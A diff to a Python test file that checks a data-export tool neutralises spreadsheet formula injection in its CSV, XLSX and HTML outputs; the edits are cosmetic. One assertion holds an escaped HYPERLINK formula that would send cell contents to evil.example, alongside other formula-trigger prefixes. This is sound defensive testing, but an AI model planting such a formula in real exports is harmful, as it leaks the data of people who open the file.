@@ -1,8 +1,7 @@
-"""Outputs never carry a live formula: CSV cells are escaped with a leading ', XLSX cells are typed strings, HTML is escaped."""
+"""Outputs never carry a live formula: CSV cells escaped with a leading ', XLSX cells typed strings, HTML escaped."""
 
 from __future__ import annotations
 
-import io
 import shutil
 import subprocess
 import zipfile
@@ -87,7 +86,8 @@ def test_escape_frame_returns_the_same_frame_when_nothing_needs_escaping():
 def test_match_escapes_every_hostile_cell_in_the_csv_files(hostile_match):
     _, out = hostile_match
     raw = (out / "programmes.csv").read_text(encoding="utf-8")
-    assert "'@MAL-LAT-NA-NAT,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",Malmö,NA,'+SUM(1;1)," in raw
+    assert ("'@MAL-LAT-NA-NAT,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","
+            "Malmö,NA,'+SUM(1;1),") in raw
     placements = (out / "placements.csv").read_text(encoding="utf-8").splitlines()
     assert placements[1].startswith("'-0042,")
     assert placements[3].startswith("'\tS000003,")
@@ -155,7 +155,7 @@ def libreoffice() -> str | None:
 
 @pytest.mark.skipif(libreoffice() is None, reason="LibreOffice is not installed")
 def test_libreoffice_shows_hostile_cells_as_text(hostile_match, tmp_path):
-    """LibreOffice opens programmes.csv and report.xlsx without running a formula: converted to CSV the cells are text."""
+    """LibreOffice opens programmes.csv and report.xlsx without running a formula: the cells stay text."""
     _, out = hostile_match
     shutil.copy(out / "programmes.csv", tmp_path / "programmes.csv")
     converted = {}
